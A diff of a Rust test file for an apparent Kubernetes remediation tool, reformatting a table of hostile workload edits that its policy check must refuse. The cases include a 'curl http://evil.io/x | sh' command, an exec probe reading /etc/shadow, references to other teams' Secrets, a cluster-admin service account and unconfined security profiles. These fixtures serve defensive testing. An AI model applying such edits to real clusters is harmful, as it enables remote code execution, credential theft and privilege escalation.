@@ -53,7 +53,14 @@ fn policy() -> PolicyConfig {
 }
 
 /// What `prepare` decides after its dry-run, without a cluster.
-fn judge(drafter: Drafter, kind: &str, ns: &str, live: &Value, proposed: &Value, facts: &Facts) -> Result<Risk, String> {
+fn judge(
+    drafter: Drafter,
+    kind: &str,
+    ns: &str,
+    live: &Value,
+    proposed: &Value,
+    facts: &Facts,
+) -> Result<Risk, String> {
     let policy = policy();
     check::target(&policy, kind, ns, false)?;
     let tier = policy.tiers.resolve(drafter);
@@ -75,7 +82,9 @@ fn set_image(image: &'static str) -> impl Fn(&mut Value) {
 }
 
 /// (name, namespace, live object edit, hostile edit, what the refusal must say)
-fn hostile() -> Vec<(&'static str, &'static str, Edit, Box<dyn Fn(&mut Value)>, &'static str)> {
+type Case = (&'static str, &'static str, Edit, Box<dyn Fn(&mut Value)>, &'static str);
+
+fn hostile() -> Vec<Case> {
     let none: Edit = |_| {};
     let privileged: Edit = |d| container(d)["securityContext"] = json!({"privileged": true});
     let host_network: Edit = |d| d["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
@@ -86,76 +95,229 @@ fn hostile() -> Vec<(&'static str, &'static str, Edit, Box<dyn Fn(&mut Value)>, 
         Box::new(move |d| d["spec"]["template"]["metadata"]["annotations"] = json!({k: v}))
     };
     vec![
-        ("image from an unknown registry", "shop", none, Box::new(set_image("evil.io/miner:latest")), "image evil.io/miner"),
+        (
+            "image from an unknown registry",
+            "shop",
+            none,
+            Box::new(set_image("evil.io/miner:latest")),
+            "image evil.io/miner",
+        ),
         ("image from Docker Hub", "shop", none, Box::new(set_image("attacker/api:2")), "image attacker/api"),
-        ("image from a host that extends the allowlisted one", "shop", none,
-            Box::new(set_image("registry.example.com.evil.io/shop/api:1")), "earlier images"),
-        ("image from a sibling path of the allowlisted prefix", "shop", none,
-            Box::new(set_image("registry.example.com/shop-evil/api:1")), "earlier images"),
-        ("image by digest not in history", "shop", none,
-            Box::new(set_image("docker.io/library/busybox@sha256:0000000000000000000000000000000000000000000000000000000000000000")),
-            "image docker.io/library/busybox"),
-        ("command replaced by a shell", "shop", none,
-            Box::new(|d| container(d)["command"] = json!(["sh", "-c", "curl http://evil.io/x | sh"])), "command"),
+        (
+            "image from a host that extends the allowlisted one",
+            "shop",
+            none,
+            Box::new(set_image("registry.example.com.evil.io/shop/api:1")),
+            "earlier images",
+        ),
+        (
+            "image from a sibling path of the allowlisted prefix",
+            "shop",
+            none,
+            Box::new(set_image("registry.example.com/shop-evil/api:1")),
+            "earlier images",
+        ),
+        (
+            "image by digest not in history",
+            "shop",
+            none,
+            Box::new(set_image(
+                "docker.io/library/busybox@sha256:0000000000000000000000000000000000000000000000000000000000000000",
+            )),
+            "image docker.io/library/busybox",
+        ),
+        (
+            "command replaced by a shell",
+            "shop",
+            none,
+            Box::new(|d| container(d)["command"] = json!(["sh", "-c", "curl http://evil.io/x | sh"])),
+            "command",
+        ),
         ("args added", "shop", none, Box::new(|d| container(d)["args"] = json!(["--debug-shell"])), "args"),
-        ("readiness probe turned into an exec probe", "shop", none,
-            Box::new(|d| container(d)["readinessProbe"] = json!({"exec": {"command": ["sh", "-c", "cat /etc/shadow"]}})),
-            "readinessProbe.exec"),
-        ("liveness exec probe added", "shop", none,
-            Box::new(|d| container(d)["livenessProbe"] = json!({"exec": {"command": ["/bin/true"]}})), "livenessProbe.exec"),
-        ("startup exec probe added", "shop", none,
-            Box::new(|d| container(d)["startupProbe"] = json!({"exec": {"command": ["id"]}})), "startupProbe.exec"),
-        ("secretKeyRef to another Secret", "shop", none,
+        (
+            "readiness probe turned into an exec probe",
+            "shop",
+            none,
+            Box::new(|d| {
+                container(d)["readinessProbe"] = json!({"exec": {"command": ["sh", "-c", "cat /etc/shadow"]}})
+            }),
+            "readinessProbe.exec",
+        ),
+        (
+            "liveness exec probe added",
+            "shop",
+            none,
+            Box::new(|d| container(d)["livenessProbe"] = json!({"exec": {"command": ["/bin/true"]}})),
+            "livenessProbe.exec",
+        ),
+        (
+            "startup exec probe added",
+            "shop",
+            none,
+            Box::new(|d| container(d)["startupProbe"] = json!({"exec": {"command": ["id"]}})),
+            "startupProbe.exec",
+        ),
+        (
+            "secretKeyRef to another Secret",
+            "shop",
+            none,
             Box::new(|d| container(d)["env"][0]["valueFrom"]["secretKeyRef"]["name"] = json!("admin-credentials")),
-            "Secret admin-credentials"),
-        ("new env var from a cluster Secret", "shop", none,
-            Box::new(|d| container(d)["env"].as_array_mut().unwrap().push(json!({"name": "T",
-                "valueFrom": {"secretKeyRef": {"name": "default-token", "key": "token"}}}))),
-            "Secret default-token"),
-        ("envFrom a new Secret", "shop", none,
-            Box::new(|d| container(d)["envFrom"] = json!([{"secretRef": {"name": "payments-keys"}}])), "Secret payments-keys"),
-        ("configMapKeyRef to a new ConfigMap", "shop", none,
-            Box::new(|d| container(d)["env"][1] = json!({"name": "MODE",
-                "valueFrom": {"configMapKeyRef": {"name": "other-team", "key": "mode"}}})),
-            "ConfigMap other-team"),
-        ("secret volume for a new Secret", "shop", none,
-            Box::new(|d| d["spec"]["template"]["spec"]["volumes"][0] = json!({"name": "conf", "secret": {"secretName": "tls-root"}})),
-            "Secret tls-root"),
-        ("projected volume with a Secret", "shop", none,
-            Box::new(|d| d["spec"]["template"]["spec"]["volumes"][0] = json!({"name": "conf",
-                "projected": {"sources": [{"secret": {"name": "tls-root"}}]}})),
-            "projected"),
-        ("AppArmor unconfined", "shop", none, ann("container.apparmor.security.beta.kubernetes.io/api", "unconfined"), "apparmor"),
-        ("AppArmor, key case changed", "shop", none, ann("Container.AppArmor.Security.Beta.Kubernetes.io/api", "unconfined"), "security-relevant"),
+            "Secret admin-credentials",
+        ),
+        (
+            "new env var from a cluster Secret",
+            "shop",
+            none,
+            Box::new(|d| {
+                container(d)["env"].as_array_mut().unwrap().push(json!({"name": "T",
+                "valueFrom": {"secretKeyRef": {"name": "default-token", "key": "token"}}}))
+            }),
+            "Secret default-token",
+        ),
+        (
+            "envFrom a new Secret",
+            "shop",
+            none,
+            Box::new(|d| container(d)["envFrom"] = json!([{"secretRef": {"name": "payments-keys"}}])),
+            "Secret payments-keys",
+        ),
+        (
+            "configMapKeyRef to a new ConfigMap",
+            "shop",
+            none,
+            Box::new(|d| {
+                container(d)["env"][1] = json!({"name": "MODE",
+                "valueFrom": {"configMapKeyRef": {"name": "other-team", "key": "mode"}}})
+            }),
+            "ConfigMap other-team",
+        ),
+        (
+            "secret volume for a new Secret",
+            "shop",
+            none,
+            Box::new(|d| {
+                d["spec"]["template"]["spec"]["volumes"][0] =
+                    json!({"name": "conf", "secret": {"secretName": "tls-root"}})
+            }),
+            "Secret tls-root",
+        ),
+        (
+            "projected volume with a Secret",
+            "shop",
+            none,
+            Box::new(|d| {
+                d["spec"]["template"]["spec"]["volumes"][0] = json!({"name": "conf",
+                "projected": {"sources": [{"secret": {"name": "tls-root"}}]}})
+            }),
+            "projected",
+        ),
+        (
+            "AppArmor unconfined",
+            "shop",
+            none,
+            ann("container.apparmor.security.beta.kubernetes.io/api", "unconfined"),
+            "apparmor",
+        ),
+        (
+            "AppArmor, key case changed",
+            "shop",
+            none,
+            ann("Container.AppArmor.Security.Beta.Kubernetes.io/api", "unconfined"),
+            "security-relevant",
+        ),
         ("seccomp unconfined", "shop", none, ann("seccomp.security.alpha.kubernetes.io/pod", "unconfined"), "seccomp"),
         ("Istio sidecar turned off", "shop", none, ann("sidecar.istio.io/inject", "false"), "sidecar.istio.io"),
         ("Linkerd injection turned off", "shop", none, ann("linkerd.io/inject", "disabled"), "linkerd.io"),
         ("Vault agent injected", "shop", none, ann("vault.hashicorp.com/agent-inject-secret-db", "secret/db"), "vault"),
-        ("last-applied rewritten", "shop", none,
-            Box::new(|d| d["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] = json!("{}")),
-            "last-applied"),
-        ("pods moved into another workload's selector", "shop", none,
-            Box::new(|d| d["spec"]["template"]["metadata"]["labels"]["app"] = json!("payments")), "label app"),
-        ("pods joined to a Service's selector", "shop", none,
-            Box::new(|d| d["spec"]["template"]["metadata"]["labels"]["role"] = json!("db")), "label role"),
-        ("kubemedic's own namespace", "kubemedic", none, Box::new(|d| d["spec"]["replicas"] = json!(3)), "own namespace"),
+        (
+            "last-applied rewritten",
+            "shop",
+            none,
+            Box::new(|d| {
+                d["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] = json!("{}")
+            }),
+            "last-applied",
+        ),
+        (
+            "pods moved into another workload's selector",
+            "shop",
+            none,
+            Box::new(|d| d["spec"]["template"]["metadata"]["labels"]["app"] = json!("payments")),
+            "label app",
+        ),
+        (
+            "pods joined to a Service's selector",
+            "shop",
+            none,
+            Box::new(|d| d["spec"]["template"]["metadata"]["labels"]["role"] = json!("db")),
+            "label role",
+        ),
+        (
+            "kubemedic's own namespace",
+            "kubemedic",
+            none,
+            Box::new(|d| d["spec"]["replicas"] = json!(3)),
+            "own namespace",
+        ),
         ("a forbidden namespace", "kube-system", none, Box::new(|d| d["spec"]["replicas"] = json!(3)), "forbidden"),
-        ("a forbidden namespace spelt differently", "Kube-System", none,
-            Box::new(|d| d["spec"]["replicas"] = json!(3)), "not a namespace name"),
-        ("privileged workload, image from its own history", "shop", privileged,
-            Box::new(set_image("registry.example.com/shop/api:1")), "runs privileged"),
-        ("host-network workload scaled", "shop", host_network, Box::new(|d| d["spec"]["replicas"] = json!(3)), "hostNetwork"),
-        ("hostPath workload", "shop", host_path, Box::new(|d| container(d)["resources"]["limits"]["memory"] = json!("200Mi")), "hostPath"),
+        (
+            "a forbidden namespace spelt differently",
+            "Kube-System",
+            none,
+            Box::new(|d| d["spec"]["replicas"] = json!(3)),
+            "not a namespace name",
+        ),
+        (
+            "privileged workload, image from its own history",
+            "shop",
+            privileged,
+            Box::new(set_image("registry.example.com/shop/api:1")),
+            "runs privileged",
+        ),
+        (
+            "host-network workload scaled",
+            "shop",
+            host_network,
+            Box::new(|d| d["spec"]["replicas"] = json!(3)),
+            "hostNetwork",
+        ),
+        (
+            "hostPath workload",
+            "shop",
+            host_path,
+            Box::new(|d| container(d)["resources"]["limits"]["memory"] = json!("200Mi")),
+            "hostPath",
+        ),
         ("SYS_ADMIN workload", "shop", sys_admin, Box::new(|d| d["spec"]["replicas"] = json!(1)), "SYS_ADMIN"),
-        ("privileged container requested", "shop", none,
-            Box::new(|d| container(d)["securityContext"] = json!({"privileged": true})), "privilege"),
-        ("service account swapped", "shop", none,
-            Box::new(|d| d["spec"]["template"]["spec"]["serviceAccountName"] = json!("cluster-admin")), "serviceAccountName"),
-        ("lifecycle hook runs a command", "shop", none,
-            Box::new(|d| container(d)["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh"]}}})), "lifecycle"),
+        (
+            "privileged container requested",
+            "shop",
+            none,
+            Box::new(|d| container(d)["securityContext"] = json!({"privileged": true})),
+            "privilege",
+        ),
+        (
+            "service account swapped",
+            "shop",
+            none,
+            Box::new(|d| d["spec"]["template"]["spec"]["serviceAccountName"] = json!("cluster-admin")),
+            "serviceAccountName",
+        ),
+        (
+            "lifecycle hook runs a command",
+            "shop",
+            none,
+            Box::new(|d| container(d)["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh"]}}})),
+            "lifecycle",
+        ),
         ("host port opened", "shop", none, Box::new(|d| container(d)["ports"][0]["hostPort"] = json!(22)), "hostPort"),
-        ("memory far above the cap", "shop", none,
-            Box::new(|d| container(d)["resources"]["limits"]["memory"] = json!("64Gi")), "memory"),
+        (
+            "memory far above the cap",
+            "shop",
+            none,
+            Box::new(|d| container(d)["resources"]["limits"]["memory"] = json!("64Gi")),
+            "memory",
+        ),
     ]
 }
 
